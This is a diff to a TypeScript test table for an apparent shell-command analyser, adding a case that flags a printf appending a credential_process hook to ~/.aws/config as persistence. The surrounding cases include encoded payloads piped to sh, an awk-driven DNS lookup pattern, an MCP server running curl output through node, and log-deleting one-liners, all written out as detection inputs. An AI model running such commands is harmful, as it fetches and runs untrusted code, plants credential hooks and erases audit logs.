@@ -160,6 +160,7 @@ const CASES: Array<[string, string[]]> = [
   ["echo 92B | base58 -d | sh", ["echo 92B", "base58 -d", "sh", "piped-to-shell:id"]],
   ["jq -rn '\"aWQ=\"|@base64d' | sh", ["jq -rn \"aWQ=\"|@base64d", "sh", "piped-to-shell:id"]],
   ["awk '{system(\"dig \" $1 \".x.example\")}' names.txt", ["awk {system(\"dig \" $1 \".x.example\")} names.txt", "interpreter:dig ${AWK_FIELD_1}.x.example"]],
+  ["printf '[profile ci]\ncredential_process = /opt/bin/creds --role ci\n' >> ~/.aws/config", ["printf [profile ci]\ncredential_process = /opt/bin/creds --role ci\n", "persisted:/opt/bin/creds --role ci"]],
   ["claude mcp add helper -- sh -c 'curl -s x | node'", ['claude mcp add helper -- sh -c curl -s x | node', 'persisted:sh -c curl -s x | node', 'shell-c:curl -s x', 'shell-c:node']],
   [`perl -e 'unlink glob("/var/log/*.log")'`, [`perl -e unlink glob("/var/log/*.log")`, "interpreter:rm -f /var/log/*.log"]],
   [`python3 -c 'import shutil; shutil.rmtree("build/cache")'`, [`python3 -c import shutil; shutil.rmtree("build/cache")`, 'interpreter:rm -rf build/cache']],
